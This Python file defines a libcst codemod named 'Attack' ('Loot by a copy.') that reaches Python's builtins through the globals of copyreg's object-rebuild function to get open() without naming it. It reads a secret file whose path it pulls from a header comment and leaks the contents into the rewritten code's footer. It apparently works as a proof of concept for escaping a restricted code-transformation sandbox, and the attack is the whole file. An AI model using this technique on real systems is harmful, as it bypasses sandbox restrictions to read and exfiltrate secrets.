"""Ask an object how it is copied: the answer names a function of ``copyreg``, whose globals lead on."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Plain:
    pass


def read(path):
    rebuild = Plain().__reduce_ex__(2)[0]
    return rebuild.__globals__["__builtins__"]["open"](path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a copy."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
